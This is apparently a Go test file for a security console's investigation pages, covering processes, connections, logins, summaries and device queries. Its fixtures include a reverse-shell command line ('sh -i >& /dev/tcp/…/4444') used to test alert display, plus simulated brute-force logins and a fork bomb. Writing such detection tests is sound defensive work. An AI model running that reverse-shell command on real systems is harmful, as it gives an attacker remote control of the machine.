package investigate_test

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/tvilling/tvilling/internal/security/ledger"
)

func TestProcesses(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.add("pump", "ProcessCreate", shell("sshd", 10, 1))
	evil := s.add("pump", "ProcessCreate", shell("sh -i >& /dev/tcp/203.0.113.77/4444", 11, 10))
	s.add("pump", "ProcessTerminate", `[{"Executable":"/bin/sh","ProcessId":11,"ExitStatus":3}]`)
	s.add("pump", "ProcessCreate", `[{"Executable":"/bin/ls","CommandLine":"ls","UserName":"eve","ExtraDetails":{"HitCount":"12"}}]`)
	s.alerts = []*ledger.Alert{{ID: "a1", Title: "Reverse shell", Severity: ledger.High, Evidence: []ledger.Evidence{{Event: evil.Event.ID}}}}
	page := s.page("/investigate/processes?device=pump")
	has(t, page, "3 processes", `href="/console/alerts/a1"`, "Reverse shell", "12 times, put together by the agent", "by process 1, which was not told of", "1 min", "(3)")
	page = s.page("/investigate/processes?device=pump&q=dev/tcp")
	has(t, page, "1 process found", `class="found"`, "sshd")
	hasNot(t, page, ">ls<", "ls</bdi>")
	has(t, s.page("/investigate/processes?device=pump&q=nonsense"), "No process matches")
	has(t, s.page("/investigate/processes?device=nobody"), "No process is known")
	has(t, s.page("/investigate/processes"), "/bin/sh", "Name a device")
}

// TestManyProcesses: a page of a fork bomb has an end, as deep as it is.
func TestManyProcesses(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	for i := range 3000 {
		s.add("pump", "ProcessCreate", shell("bomb", i+10, i+9))
	}
	page := s.page("/investigate/processes?device=pump&range=all")
	has(t, page, "are not drawn")
	if n := strings.Count(page, `class="line"`); n == 0 || n > 500 {
		t.Errorf("%d lines", n)
	}
	depth, deepest := 0, 0
	for i := range len(page) {
		switch {
		case strings.HasPrefix(page[i:], "<ul"):
			depth++
			deepest = max(deepest, depth)
		case strings.HasPrefix(page[i:], "</ul>"):
			depth--
		}
	}
	if deepest > 30 || depth != 0 {
		t.Errorf("lists in lists: %d deep, %d open at the end", deepest, depth)
	}
}

func TestConnectionsAndLogins(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.add("pump", "ConnectionCreate", `[{"Direction":"Out","Protocol":"tcp","RemoteAddress":"203.0.113.77","RemotePort":"4444","Executable":"/bin/sh"}]`)
	page := s.page("/investigate/connections?device=pump")
	has(t, page, "203.0.113.77", "on list", "malicious-addresses", `<svg class="strip"`, url.Values{"device": {"pump"}, "name": {"ConnectionCreate"}, "range": {"24h"}, "where": {"RemoteAddress = 203.0.113.77", "RemotePort = 4444"}}.Encode())
	for range 7 {
		s.add("pump", "Login", `[{"UserName":"root","Result":"Fail","Executable":"sshd","RemoteAddress":"203.0.113.77"}]`)
	}
	s.add("pump", "Login", `[{"UserName":"root","Result":"Success","Executable":"sshd","RemoteAddress":"203.0.113.77"}]`)
	s.add("pump", "Login", `[{"UserName":"eve","Result":"Success","Executable":"login"}]`)
	page = s.page("/investigate/logins")
	has(t, page, "2 succeeded, 7 failed", `<td class="num end">7</td>`, "at the device")
	page = s.page("/investigate/logins?user=eve")
	has(t, page, "1 succeeded, 0 failed")
	has(t, s.page("/investigate/logins?device=other"), "Nobody logged in")
}

func TestSummaries(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.add("pump", "ListeningPorts", `[{"Protocol":"tcp","LocalPort":"8080","LocalAddress":"0.0.0.0"}]`)
	s.add("pump", "LocalUsers", `[{"UserName":"eve","UserId":"1001","GroupNames":"sudo"}]`)
	s.add("pump", "OSBaseline", `[{"CceId":"CCE-1","Description":"SSH root login","Result":"Fail","Severity":"Critical"}]`)
	has(t, s.page("/investigate/ports"), "8080", "0.0.0.0", url.Values{"name": {"ListeningPorts"}, "range": {"24h"}, "where": {"LocalPort = 8080"}}.Encode())
	has(t, s.page("/investigate/users"), "eve", "sudo")
	has(t, s.page("/investigate/baseline"), "CCE-1", "SSH root login")
	has(t, s.page("/investigate/baseline?device=other"), "No check failed", "No agent sent an event of the kind OSBaseline")
}

func TestQuery(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	has(t, s.page("/query"), "Begin with one of these", `href="/console/query?q=SELECT`)
	s.answers["SELECT deviceId, tags FROM devices WHERE tags.site = 'x'"] = `[{"deviceId":"pump","tags":{"site":"x","<b>":"\u202e"}},{"deviceId":"gate","more":1.5}]`
	page := s.page("/query?" + url.Values{"q": {"SELECT deviceId, tags FROM devices WHERE tags.site = 'x'"}}.Encode())
	has(t, page, `href="/console/devices/pump"`, `{&#34;site&#34;:&#34;x&#34;,&#34;&lt;b&gt;&#34;:`, "2 rows in", ">more<", "1.5", "format=csv", url.Values{"target": {"tags.site = 'x'"}}.Encode())
	hasNot(t, page, "<b>\"", "\u202e")
	page = s.answer("/query?q=SELECT+*+FROM+devices+WHERE+tags.site+%3D", http.StatusBadRequest)
	has(t, page, "line 1, column", `class="spot"`, `aria-invalid="true"`, "SELECT * FROM devices WHERE tags.site =")
	page = s.page("/query?explain=1&q=SELECT+*+FROM+devices+WHERE+firmware+%3D+1")
	has(t, page, "The hub looks at all twins", "tags.&lt;b&gt;", "No twin has anything that begins like")
	page = s.page("/query?live=1&q=SELECT+*+FROM+devices")
	has(t, page, `data-live="/console/live/query?q=`, "Following needs the page's script")
}

func TestWholeTwins(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.answers["SELECT * FROM devices"] = `[{"deviceId":"pump","etag":"x","status":"enabled","properties":{"desired":{"fps":30,"$metadata":{"$lastUpdated":"x"},"$version":4},"reported":{}}}]`
	page := s.page("/query?q=SELECT+*+FROM+devices")
	has(t, page, "properties.desired", `{&#34;fps&#34;:30}`, "Not shown: ")
	hasNot(t, page, "$metadata", "$version")
}

func TestExportOfQuery(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.answers["SELECT deviceId FROM devices"] = `[{"deviceId":"=pump","n":1}]` + "\n" + `[{"deviceId":"gate","later":{"a":[1,2]}}]`
	file := s.page("/query/export?format=csv&q=SELECT+deviceId+FROM+devices")
	if want := "deviceId,n,others\r\n'=pump,1,\r\ngate,,\"{\"\"later\"\":{\"\"a\"\":[1,2]}}\"\r\n"; file != want {
		t.Errorf("got %q, want %q", file, want)
	}
	file = s.page("/query/export?format=jsonl&q=SELECT+deviceId+FROM+devices")
	if want := "{\"deviceId\":\"=pump\",\"n\":1}\n{\"deviceId\":\"gate\",\"later\":{\"a\":[1,2]}}\n"; file != want {
		t.Errorf("got %q, want %q", file, want)
	}
	s.answer("/query/export?format=csv&q=SELECT", http.StatusBadRequest)
	s.answer("/query/export?format=csv&q=EXPLAIN+SELECT+*+FROM+devices", http.StatusBadRequest)
}

func TestCompletion(t *testing.T) {
	t.Parallel()
	s := newSite(t)
	s.answers["SELECT tags.site AS value, COUNT() AS rows FROM devices GROUP BY tags.site ORDER BY COUNT() DESC"] = `[{"value":"Lund","rows":9},{"value":"Malmö","rows":3},{"rows":2},{"value":"o'x","rows":1}]`
	for _, tt := range []struct{ before, want string }{
		{"SELECT * FROM dev", "14 devices devices.modules devices JOIN devices.modules devices.jobs"},
		{"SELECT * FROM devices WHERE tags.si", "28 tags.site"},
		{"SELECT * FROM devices WHERE tags.site = '", "41 Lund Malmö"},
		{"SELECT * FROM devices WHERE tags.site != 'ma", "42 Malmö"},
		{"SELECT * FROM devices WHERE tags.serial = '", "43"},
		{"SELECT * FROM devices WHERE x = 'é' AND tags.site = '", "53 Lund Malmö"},
		{"SELECT * FROM devices WHERE is_def", "28 IS_DEFINED("},
		{"SELECT * FROM devices WHERE tags.with", "28"},
	} {
		var got struct {
			From    int
			Options []struct{ Label string }
		}
		if err := json.Unmarshal([]byte(s.page("/query/complete?"+url.Values{"q": {tt.before}}.Encode())), &got); err != nil {
			t.Fatal(err)
		}
		var text strings.Builder
		fmt.Fprint(&text, got.From)
		for _, o := range got.Options {
			text.WriteString(" " + o.Label)
		}
		if text.String() != tt.want {
			t.Errorf("%s: got %s, want %s", tt.before, text.String(), tt.want)
		}
	}
	s.answer("/query/complete?q="+strings.Repeat("x", 9000), http.StatusRequestEntityTooLarge)
}
